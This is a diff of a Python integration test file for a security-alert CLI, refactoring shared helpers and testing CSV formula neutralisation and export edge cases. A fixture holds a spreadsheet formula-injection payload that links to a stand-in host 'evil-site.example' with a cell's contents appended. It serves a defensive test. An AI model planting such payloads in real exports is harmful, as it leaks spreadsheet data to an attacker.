@@ -11,7 +11,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import os
 import signal
 import subprocess
 import sys
@@ -22,10 +21,10 @@ from pathlib import Path
 import pytest
 
 from cortexkit.emulator.server import RunningEmulator
+from tests.integration.cli_support import cli_command, cli_env, run_cli
 
 # The emulator derives a tag from the text after the account name's first hyphen, so the name has one.
 EVIL = '=HYPERLINK("http://evil-site.example/"&A1,"open")'
-_SCRUB = ("PRISMA_", "PC_", "CORTEXKIT_")
 
 
 @pytest.fixture
@@ -37,34 +36,22 @@ def evil(make_emulator: Callable[..., RunningEmulator]) -> RunningEmulator:
     return running
 
 
-def _env(running: RunningEmulator, config: Path) -> dict[str, str]:
-    env = {k: v for k, v in os.environ.items() if not k.startswith(_SCRUB)}
-    env.update({**running.client_env(), "CORTEXKIT_CONFIG_DIR": str(config), "NO_COLOR": "1"})
-    return env
-
-
-def _command(*args: str) -> list[str]:
-    return [sys.executable, "-m", "cortexkit.cli.main", *args]
-
-
-def _run(env: dict[str, str], cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        _command(*args), env=env, cwd=cwd, capture_output=True, text=True, timeout=300, check=False
-    )
-
-
 def _cells(text: str) -> list[str]:
     return [value for row in csv.reader(io.StringIO(text)) for value in row]
 
 
 def test_csv_neutralises_formulas_in_every_command(evil: RunningEmulator, tmp_path: Path) -> None:
-    env = _env(evil, tmp_path)
+    env = cli_env(tmp_path, **evil.client_env())
     target = tmp_path / "alerts.csv"
-    done = _run(env, tmp_path, "alerts", "export", "-f", "csv", "-o", str(target), "--status", "open")
+    done = run_cli(
+        ["alerts", "export", "-f", "csv", "-o", str(target), "--status", "open"],
+        env,
+        cwd=tmp_path,
+    )
     assert done.returncode == 0, done.stderr
-    listed = _run(env, tmp_path, "-o", "csv", "alerts", "list", "--status", "open", "--limit", "400")
+    listed = run_cli(["-o", "csv", "alerts", "list", "--status", "open", "--limit", "400"], env, cwd=tmp_path)
     assert listed.returncode == 0, listed.stderr
-    accounts = _run(env, tmp_path, "-o", "csv", "accounts", "list")
+    accounts = run_cli(["-o", "csv", "accounts", "list"], env, cwd=tmp_path)
     assert accounts.returncode == 0, accounts.stderr
 
     for text in (target.read_text(encoding="utf-8"), listed.stdout, accounts.stdout):
@@ -74,19 +61,19 @@ def test_csv_neutralises_formulas_in_every_command(evil: RunningEmulator, tmp_pa
         assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
 
     # JSON is not read by spreadsheets: the name stays the API's.
-    raw = _run(env, tmp_path, "-o", "json", "accounts", "list")
+    raw = run_cli(["-o", "json", "accounts", "list"], env, cwd=tmp_path)
     assert EVIL in {row.get("name") for row in json.loads(raw.stdout)}
 
 
 def test_output_dash_writes_to_stdout_not_a_file_named_dash(evil: RunningEmulator, tmp_path: Path) -> None:
-    env = _env(evil, tmp_path)
-    counted = json.loads(_run(env, tmp_path, "alerts", "count", "-o", "json").stdout)["count"]
-    done = _run(env, tmp_path, "alerts", "export", "-f", "jsonl", "--output", "-")
+    env = cli_env(tmp_path, **evil.client_env())
+    counted = json.loads(run_cli(["alerts", "count", "-o", "json"], env, cwd=tmp_path).stdout)["count"]
+    done = run_cli(["alerts", "export", "-f", "jsonl", "--output", "-"], env, cwd=tmp_path)
     assert done.returncode == 0, done.stderr
     assert len({json.loads(line)["id"] for line in done.stdout.splitlines()}) == counted
     assert "to standard output" in done.stderr
 
-    report = _run(env, tmp_path, "alerts", "report", "-o", "-")
+    report = run_cli(["alerts", "report", "-o", "-"], env, cwd=tmp_path)
     assert report.returncode == 0, report.stderr
     assert report.stdout.lstrip().lower().startswith("<!doctype html>")
     # The config dir is this dir here: its files (and the token cache's key file) are not exports.
@@ -97,12 +84,12 @@ def test_output_dash_writes_to_stdout_not_a_file_named_dash(evil: RunningEmulato
 def test_output_naming_a_directory_is_bad_input_naming_the_users_path(
     evil: RunningEmulator, tmp_path: Path
 ) -> None:
-    env = _env(evil, tmp_path)
+    env = cli_env(tmp_path, **evil.client_env())
     folder = tmp_path / "exports"
     folder.mkdir()
     commands = (["alerts", "export", "-f", "csv", "-o", str(folder)], ["alerts", "report", "-o", str(folder)])
     for args in commands:
-        done = _run(env, tmp_path, *args)
+        done = run_cli(args, env, cwd=tmp_path)
         assert done.returncode == 2, done.stderr
         assert str(folder) in done.stderr and ".part" not in done.stderr
         assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
@@ -113,7 +100,7 @@ def test_output_naming_a_directory_is_bad_input_naming_the_users_path(
 def test_an_interrupted_export_keeps_the_older_file_and_leaves_no_partial_one(
     make_emulator: Callable[..., RunningEmulator], tmp_path: Path, signum: int, code: int
 ) -> None:
-    env = _env(make_emulator(alerts=10_000), tmp_path)
+    env = cli_env(tmp_path, **make_emulator(alerts=10_000).client_env())
     out = tmp_path / "out"
     out.mkdir()
     target = out / "alerts.csv"
@@ -154,10 +141,10 @@ def test_an_interrupted_export_keeps_the_older_file_and_leaves_no_partial_one(
 def test_a_reader_that_stops_early_ends_the_export_quietly(
     make_emulator: Callable[..., RunningEmulator], tmp_path: Path
 ) -> None:
-    env = _env(make_emulator(alerts=5_000), tmp_path)
+    env = cli_env(tmp_path, **make_emulator(alerts=5_000).client_env())
     args = ["alerts", "export", "-f", "jsonl", "-o", "-", "--page-size", "200", "--no-progress"]
     process = subprocess.Popen(
-        _command(*args), env=env, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
+        cli_command(*args), env=env, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
     )
     assert process.stdout is not None and process.stderr is not None
     first = process.stdout.readline()  # like `| head -1`
